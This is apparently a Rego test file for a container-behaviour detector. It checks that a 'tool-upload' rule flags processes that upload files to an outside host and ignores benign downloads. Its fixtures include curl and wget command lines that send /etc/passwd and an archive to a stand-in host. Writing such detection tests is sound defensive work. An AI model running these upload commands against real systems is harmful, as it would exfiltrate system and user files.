package sallyport.behaviours.initial_execution["tool-upload_test"]

import data.sallyport.behaviours.initial_execution["tool-upload"] as rule
import data.sallyport.fixture as f

run(argv) := f.observation({"processes": [f.process(30, argv, {})]})

test_sends_a_file if {
	every argv in [
		["/usr/bin/curl", "-F", "file=@/root/x.tgz", "http://up.example"],
		["/usr/bin/curl", "-s", "-T", "/root/x.tgz", "http://up.example"],
		["/usr/bin/curl", "--data-binary", "@/etc/passwd", "http://up.example"],
		["/usr/bin/curl", "-d@/etc/passwd", "http://up.example"],
		["/usr/bin/wget", "--post-file=/etc/passwd", "http://up.example"],
	] {
		found := rule.finding with input as run(argv)
		count(found) == 1
		f.pointed(found)
		not f.malicious(found)
	}
}

test_not_downloads_or_words if {
	every argv in [
		["/usr/bin/curl", "-fsSL", "http://dl.example/x", "-o", "/srv/x"],
		["/usr/bin/curl", "-d", "name=a", "http://api.example"],
		["/usr/bin/curl", "-u", "me@example.test:x", "http://api.example"],
		["/usr/bin/curl", "-F", "file=@/root/x", "http://localhost:8080/"],
		["/usr/bin/wget", "http://dl.example/x"],
		["/usr/bin/git", "push", "-T", "/x"],
	] {
		count(rule.finding) == 0 with input as run(argv)
	}
}

# Recorded from images that were run: see testdata/observations.
test_recorded if {
	every name in ["tool-upload.form"] {
		found := rule.finding with input as data.observations[name]
		f.pointed(found)
	}
}

test_not_recorded if {
	every name in ["tool-upload.download", "benign.hello", "benign.web-entrypoint", "benign.web-server"] {
		count(rule.finding) == 0 with input as data.observations[name]
	}
}
